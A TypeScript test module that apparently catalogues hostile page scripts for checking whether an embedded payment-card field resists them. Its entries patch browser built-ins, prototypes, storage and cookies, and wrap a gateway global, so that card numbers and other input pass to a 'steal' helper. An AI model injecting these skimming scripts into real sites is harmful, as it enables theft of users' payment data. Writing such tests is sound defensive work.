/** The page's own built-ins, replaced or polluted: what careless code hands to them. */
import type { Attack } from '../attack.ts';

const all = (owner: string, names: string) => `for (const name of ${JSON.stringify(names.split(' '))}) patch(${owner}, name, (self, values, result) => steal(typeof self === 'string' ? self : '', ...values, result));`;

export const STOLEN_BUILTINS: readonly Attack[] = [
  {
    id: 'st-value',
    what: 'patches the value accessor of inputs, text areas and form elements',
    aim: 'reading',
    control: 'reads',
    script: `patch(HTMLInputElement.prototype, 'value', (self, values, result) => steal(...values, result));
      patch(HTMLInputElement.prototype, 'setRangeText', (self, values) => steal(self.value, ...values));
      patch(ElementInternals.prototype, 'setFormValue', (self, values) => steal(...values));`,
  },
  {
    id: 'st-ael',
    what: 'patches addEventListener, wraps the handlers and keeps what they listen on',
    aim: 'replacement',
    control: 'reads',
    alone: 'before',
    script: `const original = EventTarget.prototype.addEventListener;
      EventTarget.prototype.addEventListener = function (type, handler, options) {
        if (this instanceof ShadowRoot) raid(this);
        if (this instanceof HTMLIFrameElement) seize(this);
        if (typeof handler !== 'function') return original.call(this, type, handler, options);
        return original.call(this, type, function (event) {
          steal(event.data, event.target?.value, event.key);
          const root = event.target instanceof Node ? event.target.getRootNode() : null;
          if (root instanceof ShadowRoot) raid(root);
          return handler.call(this, event);
        }, options);
      };`,
  },
  {
    id: 'st-net',
    what: 'patches fetch, XMLHttpRequest, WebSocket, sendBeacon, Request, FormData, URLSearchParams, TextEncoder and btoa',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `const see = (self, values) => steal(...values);
      for (const name of ['fetch', 'btoa', 'atob', 'encodeURIComponent', 'escape', 'WebSocket', 'EventSource', 'Request', 'Blob', 'FormData', 'Image']) patch(window, name, see);
      patch(navigator.sendBeacon ? Navigator.prototype : null, 'sendBeacon', see);
      for (const name of ['open', 'send', 'setRequestHeader']) patch(XMLHttpRequest.prototype, name, see);
      for (const name of ['append', 'set']) { patch(FormData.prototype, name, see); patch(URLSearchParams.prototype, name, see); }
      patch(TextEncoder.prototype, 'encode', see);
      patch(HTMLImageElement.prototype, 'src', see);
      patch(HTMLScriptElement.prototype, 'src', see);`,
  },
  {
    id: 'st-json',
    what: 'patches JSON.stringify and parse, structuredClone, Object.assign, entries, keys, fromEntries and Reflect',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `const see = (self, values, result) => steal(...values, result);
      for (const name of ['stringify', 'parse']) patch(JSON, name, see);
      for (const name of ['assign', 'entries', 'keys', 'values', 'fromEntries', 'freeze', 'create', 'defineProperty']) patch(Object, name, see);
      for (const name of ['apply', 'get', 'set', 'construct', 'ownKeys']) patch(Reflect, name, see);
      patch(window, 'structuredClone', see);`,
  },
  {
    id: 'st-tojson',
    what: 'adds toJSON to Object.prototype',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, value() { steal(this); return this; } });`,
  },
  {
    id: 'st-setter',
    what: 'adds setters named like card fields to Object.prototype',
    aim: 'reading',
    control: 'reads',
    script: `for (const name of ['cardno', 'cardNumber', 'number', 'pan', 'cvc', 'securitycode', 'expire', 'expiry', 'holdername', 'holderName', 'card']) {
        Object.defineProperty(Object.prototype, name, { configurable: true, get() { return undefined; }, set(value) {
          if (typeof value === 'string') steal(value);
          Object.defineProperty(this, name, { configurable: true, enumerable: true, writable: true, value });
        } });
      }`,
  },
  {
    id: 'st-string',
    what: 'patches the methods of String, RegExp, Number and Array that code reaches for when it handles a number',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `${all('String.prototype', 'replace replaceAll slice substring substr split trim charAt charCodeAt codePointAt match matchAll concat padStart padEnd indexOf includes startsWith normalize at')}
      ${all('RegExp.prototype', 'test exec')}
      ${all('Number.prototype', 'toString')}
      ${all('Number', 'parseInt isInteger')}
      ${all('window', 'parseInt Number String')}
      ${all('Array.prototype', 'map join filter push forEach reduce slice concat includes some every')}
      ${all('Array', 'from of isArray')}`,
  },
  {
    id: 'st-array',
    what: 'adds setters for the first indices to Array.prototype, and replaces its iterator',
    aim: 'reading',
    control: 'reads',
    alone: true,
    noisy: true,
    script: `for (const at of ['0', '1', '2', '3']) {
        Object.defineProperty(Array.prototype, at, { configurable: true, get() { return undefined; }, set(value) {
          if (typeof value === 'string') steal(value);
          Object.defineProperty(this, at, { configurable: true, enumerable: true, writable: true, value });
        } });
      }
      patch(Array.prototype, Symbol.iterator, (self) => { for (let at = 0; at < self.length && at < 20; at += 1) if (typeof self[at] === 'string') steal(self[at]); });`,
  },
  {
    id: 'st-promise',
    what: 'patches Promise.prototype.then, the species of promises, Promise.resolve, queueMicrotask, timers and animation frames',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `const then = Promise.prototype.then;
      Promise.prototype.then = function (resolve, reject) {
        return then.call(this, typeof resolve === 'function' ? (value) => { steal(value); return resolve(value); } : resolve, reject);
      };
      patch(Promise, 'resolve', (self, values) => steal(...values));
      Object.defineProperty(Promise, Symbol.species, { configurable: true, get() {
        return class extends Promise { constructor(executor) { super((resolve, reject) => executor((value) => { steal(value); resolve(value); }, reject)); } };
      } });
      for (const name of ['queueMicrotask', 'setTimeout', 'setInterval', 'requestAnimationFrame']) patch(window, name, (self, values) => steal(...values));`,
  },
  {
    id: 'st-console',
    what: 'patches the console, and listens to errors, rejections and Error.prepareStackTrace',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `for (const name of Object.getOwnPropertyNames(console)) patch(console, name, (self, values) => steal(...values));
      for (const type of ['error', 'unhandledrejection', 'securitypolicyviolation']) listen(window, type, (event) => steal(event.message, String(event.reason ?? ''), event.error?.stack, event.sample), true);
      Error.stackTraceLimit = 100;
      Error.prepareStackTrace = (error, frames) => { steal(String(error)); for (const frame of frames) { try { const self = frame.getThis(); if (self) crawl(self); } catch { /* strict */ } } return String(error); };`,
  },
  {
    id: 'st-global',
    what: 'lays a trap on window.Multipayment, the gateway’s global',
    aim: 'reading',
    control: 'reads',
    script: `let inner;
      const wrap = (script) => ({ ...script, getToken(card, callback) { steal(card); return script?.getToken?.(card, callback); } });
      Object.defineProperty(window, 'Multipayment', { configurable: true, get: () => inner, set(script) { inner = wrap(script); } });`,
  },
  {
    id: 'st-storage',
    what: 'patches storage, cookies and IndexedDB, and reads them at the end',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `patch(Storage.prototype, 'setItem', (self, values) => steal(...values));
      patch(Document.prototype, 'cookie', (self, values) => steal(...values));
      for (const name of ['put', 'add']) patch(IDBObjectStore.prototype, name, (self, values) => steal(...values));
      atEnd(async () => {
        for (const storage of [localStorage, sessionStorage]) for (let at = 0; at < storage.length; at += 1) steal(storage.getItem(storage.key(at)));
        steal(document.cookie, (await indexedDB.databases?.())?.map(({ name }) => name));
        for (const name of (await window.caches?.keys()) ?? []) steal(name);
      });`,
  },
  {
    id: 'dt-console',
    what: 'reads the console as developer tools and remote logging do, of all frames; logs the element and its events with traps',
    aim: 'reading',
    control: 'reads',
    engines: ['chromium', 'firefox'],
    why: 'WebKitWebDriver does not tell what was logged',
    noisy: true,
    // what was logged is read by the driver, and put to this attack's loot
    script: `const bait = () => new Proxy({}, { get: (_, name) => { steal(String(name)); return undefined; } });
      moment(() => { for (const host of hosts()) { console.log(host, bait()); console.dir?.(host); console.table?.([host]); } });
      for (const type of ['shoji-change', 'shoji-token', 'shoji-error']) listen(document, type, (event) => { console.log(event); console.log(JSON.stringify(event)); });`,
  },
];
